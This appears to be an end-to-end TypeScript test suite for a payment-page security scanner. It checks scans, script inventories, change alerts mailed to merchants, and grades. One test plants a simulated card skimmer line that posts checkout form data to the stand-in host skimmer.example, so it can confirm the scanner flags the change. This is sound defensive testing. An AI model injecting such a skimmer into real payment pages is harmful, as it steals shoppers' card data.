// The scanner end to end through the real registry: a shop confirmed by the registry's own flow
// (HTTP proof over TLS, document, submit, approval; e2e.testing.ts), its origin picked up by the
// sweep job on the real queue and scanned by the scan job, payment-page scripts inventoried,
// history with the difference from the previous scan, and alert mail delivered over real SMTP
// when a payment-page script changes and when the grade drops. The grade reaches the public
// registry page and `services.scanner.getLatestGrade` (what the seals module reads).
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import type { Client } from "../../platform/testing/http.ts";
import { startScannerE2e, type ScannerE2e } from "./e2e.testing.ts";
import { SCANNER_JOBS } from "./scanner.jobs.ts";

let e: ScannerE2e;
let merchant: Client;
let authority: Client;
let originId = "";

interface Scan { id: string; status: string; trigger: string; grade: string | null; diff: { previousGrade: string; currentGrade: string; gradeDropped: boolean; alerts: { kind: string; src?: string }[] } | null }

before(async () => {
  e = await startScannerE2e();
  ({ merchant, authority } = e);
});
after(async () => {
  await (e as ScannerE2e | undefined)?.close();
});

async function until<T>(what: string, f: () => Promise<T | null | undefined | false>, ms = 60_000): Promise<T> {
  const end = Date.now() + ms;
  for (;;) {
    const v = await f();
    if (v !== null && v !== undefined && v !== false) return v;
    if (Date.now() > end) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 250));
  }
}

const scans = async (): Promise<Scan[]> => (await merchant.get(`/api/v1/scanner/origins/${originId}/scans`)).json<{ items: Scan[] }>().items;
const doneScans = async (n: number): Promise<Scan[]> => until(`${String(n)} finished scans`, async () => {
  const items = await scans();
  return items.length >= n && items.every((s) => s.status === "done" || s.status === "failed") ? items : null;
});

test("a confirmed shop's origin is scanned by the sweep job on the real queue; the grade reaches the registry page and getLatestGrade", async () => {
  const listed = await merchant.get(`/api/v1/scanner/shops/${e.shopId}/origins`);
  assert.equal(listed.statusCode, 200, listed.body);
  const origins = listed.json<{ items: { id: string; origin: string }[] }>().items;
  assert.deepEqual(origins.map((o) => o.origin), [e.origin], "the registry's confirmed origin is watched");
  originId = origins[0]?.id ?? "";
  const declared = await merchant.request("PUT", `/api/v1/scanner/origins/${originId}/payment-pages`, { pages: [`${e.origin}/checkout`] });
  assert.equal(declared.statusCode, 200, declared.body);

  assert.ok(await e.ts.server.jobs.send(SCANNER_JOBS.sweep, {}), "the hourly job, sent now");
  const [first] = await doneScans(1);
  assert.equal(first?.status, "done", JSON.stringify(first));
  assert.equal(first.trigger, "schedule");
  assert.equal(first.diff, null, "nothing to compare with yet");

  const latest = (await merchant.get(`/api/v1/scanner/origins/${originId}/latest`)).json<{ scan: { grade: string; result: { findings: { id: string; fix: { "zh-TW": string; en: string }; snippets: Record<string, string> }[] } } }>();
  assert.equal(latest.scan.grade, first.grade);
  const finding = latest.scan.result.findings.find((f) => Object.keys(f.snippets).length > 0);
  assert.ok(finding, "a failed check with configuration examples");
  assert.ok(finding.fix["zh-TW"].length > 0 && finding.fix.en.length > 0);

  const inventory = (await merchant.get(`/api/v1/scanner/origins/${originId}/scripts`)).json<{ items: { src: string; sha256: string | null; integrity: string | null }[] }>().items;
  assert.deepEqual(inventory.map((s) => s.src), [`${e.origin}/pay.js`]);
  assert.match(inventory[0]?.sha256 ?? "", /^[0-9a-f]{64}$/);

  const grade = await e.ts.server.services.scanner.getLatestGrade({ shopId: e.shopId });
  assert.equal(grade?.grade, first.grade);
  assert.equal(grade.origin, e.origin);
  const page = await fetch(`${e.ts.url}/api/v1/registry/public/shops/${e.shopId}`);
  const ext = ((await page.json()) as { extensions: { scanGrade: { grade: string; score: number } | null } }).extensions.scanGrade;
  assert.deepEqual({ grade: ext?.grade, score: ext?.score }, { grade: grade.grade, score: grade.score }, "the public registry page shows the same grade");
});

test("a changed payment-page script is in the diff and mailed to the shop over SMTP (PCI DSS 11.6.1)", async () => {
  e.site.payJs = "pay(); fetch('https://skimmer.example/c', { method: 'POST', body: document.forms[0] && new FormData(document.forms[0]) });";
  const asked = await merchant.post(`/api/v1/scanner/origins/${originId}/scans`);
  assert.equal(asked.statusCode, 202, asked.body);
  const [second] = await doneScans(2);
  assert.equal(second?.trigger, "shop");
  assert.deepEqual(second.diff?.alerts.map((a) => [a.kind, a.src]), [["payment-script-changed", `${e.origin}/pay.js`]]);
  const mail = await e.ts.mail.waitFor((m) => m.to === e.merchantEmail && m.subject.includes(e.origin));
  assert.match(mail.text, /付款頁面 .*\/checkout 的腳本內容已變更/);
  assert.match(mail.text, /a script on payment page .*\/checkout changed/);
  assert.match(mail.text, new RegExp(`/scanner/origins/${originId}`), "links the origin's page");
});

test("a grade drop is mailed too; the authority scans on demand; history keeps every scan newest first", async () => {
  const before = e.ts.mail.messages().length;
  e.site.headers = { "content-type": "text/html; charset=utf-8" }; // the security headers are gone
  const asked = await authority.post(`/api/v1/scanner/origins/${originId}/scans`);
  assert.equal(asked.statusCode, 202, asked.body);
  const items = await doneScans(3);
  const third = items[0];
  assert.equal(third?.trigger, "authority");
  assert.equal(third.diff?.gradeDropped, true, JSON.stringify(third.diff));
  assert.ok(third.diff.alerts.some((a) => a.kind === "grade-dropped"));
  const mail = await until("the grade-drop mail", () => Promise.resolve(e.ts.mail.messages().slice(before).find((m) => m.to === e.merchantEmail)));
  assert.match(mail.text, new RegExp(`評等由 ${escape(items[1]?.grade ?? "")} 降為 ${escape(third.grade ?? "")}`));
  assert.deepEqual(items.map((s) => s.trigger), ["authority", "shop", "schedule"]);
  // a page at a time: two, then the rest from the cursor
  const p1 = (await merchant.get(`/api/v1/scanner/origins/${originId}/scans?limit=2`)).json<{ items: Scan[]; nextBefore: string | null }>();
  assert.deepEqual(p1.items.map((s) => s.trigger), ["authority", "shop"]);
  assert.ok(p1.nextBefore);
  const p2 = (await merchant.get(`/api/v1/scanner/origins/${originId}/scans?limit=2&before=${encodeURIComponent(p1.nextBefore)}`)).json<{ items: Scan[]; nextBefore: string | null }>();
  assert.deepEqual([p2.items.map((s) => s.trigger), p2.nextBefore], [["schedule"], null]);
  assert.equal((await e.ts.server.services.scanner.getLatestGrade({ origin: e.origin }))?.grade, third.grade, "getLatestGrade follows the latest scan");
  const dist = (await authority.get("/api/v1/scanner/grades")).json<{ shops: Record<string, number> }>();
  assert.equal(dist.shops[third.grade ?? ""], 1);
});

const escape = (s: string): string => s.replace(/[+]/g, "\\+");
